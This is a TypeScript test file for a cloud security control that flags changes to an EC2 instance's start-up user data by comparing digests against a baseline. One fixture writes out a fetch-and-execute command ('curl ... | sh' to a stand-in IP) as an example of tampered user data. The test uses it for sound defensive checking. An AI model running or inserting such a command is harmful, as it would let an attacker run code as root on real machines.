import control from '../../../shared/controls/ec2/ec2-instance-user-data-kept.ts';
import { digestUserData } from '../../../shared/compute/user-data.ts';
import { describeTriggers } from '../../support/describe-triggers.ts';
import { awsError, fakeReader } from '../../support/fake-reader.ts';
import { instanceId, instanceRef } from '../../support/instance-answers.ts';
import { describeWithRecords, readRecordedEvents } from '../../support/recorded-events.ts';
import { detect, remedy } from '../../support/remedy.ts';
import { selectFromEvent } from '../../support/sample-events.ts';
import { contextOf } from '../../support/test-context.ts';

const secret = Buffer.from('#!/bin/sh\nexport PASSWORD=correct-horse\n').toString('base64');
const remembered = digestUserData(secret);
const found = digestUserData(Buffer.from('#!/bin/sh\ncurl http://198.51.100.66/x | sh\n').toString('base64'));
const context = contextOf(control);

describe('the user data of an instance', () => {
  it.each([
    ['nothing is remembered of it yet', undefined],
    ['it is what it was', { digest: remembered }],
  ])('is left alone where %s', (_, baseline) => {
    expect(detect(control, { digest: remembered }, { baseline })).toEqual([]);
  });

  it.each([
    ['changed', remembered, found],
    ['removed', remembered, 'none'],
    ['given to an instance that had none', 'none', found],
  ])('is reported with the steps where it was %s', (_, before, after) => {
    const report = remedy(control, { digest: after }, instanceRef, { baseline: { digest: before } });

    expect(report.violations).toEqual([
      {
        element: 'UserData',
        reason: 'the user data is not what it was; it runs as root when the instance starts',
        evidence: { remembered: before, found: after },
      },
    ]);
    expect(report).toMatchObject({ apply: [], undo: [] });
    expect(report.summary).toContain(`who changed the user data of instance ${instanceId}`);
    expect(report.summary).toContain(`holdfast baseline accept ${instanceRef.arn}`);
  });

  it('is remembered by what stands for it', () => {
    expect(control.remember?.({ digest: remembered })).toEqual({ digest: remembered });
  });
});

describe('reading the user data', () => {
  it('takes one call, and keeps nothing of the text', async () => {
    const aws = fakeReader({
      'ec2:DescribeInstanceAttribute': { InstanceId: instanceId, UserData: { Value: secret } },
    });

    const state = await control.read(instanceRef, aws, context);

    expect(state).toEqual({ digest: remembered });
    expect(JSON.stringify(state)).not.toContain(secret);
    expect(JSON.stringify(state)).not.toContain('correct-horse');
    expect(aws.reads).toEqual([
      {
        operation: 'ec2:DescribeInstanceAttribute',
        input: { InstanceId: instanceId, Attribute: 'userData' },
      },
    ]);
  });

  it.each([{}, { UserData: {} }, { UserData: { Value: '' } }])('takes %j for none', async (answer) => {
    const aws = fakeReader({ 'ec2:DescribeInstanceAttribute': answer });
    await expect(control.read(instanceRef, aws, context)).resolves.toEqual({ digest: 'none' });
  });

  it('fails when it may not', async () => {
    const aws = fakeReader({ 'ec2:DescribeInstanceAttribute': awsError('UnauthorizedOperation') });
    await expect(control.read(instanceRef, aws, context)).rejects.toThrow('UnauthorizedOperation');
  });
});

describeTriggers(control, {
  ModifyInstanceAttribute: ['i-03e8b5d1c6a7f9240'],
  RunInstances: ['i-03e8b5d1c6a7f9240'],
});

describe('the attack on record', () => {
  describeWithRecords('of a changed start script', () => {
    it('names the instance', () => {
      const events = readRecordedEvents('aws.execution.ec2-user-data');
      expect(events.flatMap((event) => selectFromEvent(control, event))).toEqual(['i-DDd6c7B0e18F0E35f']);
    });
  });
});
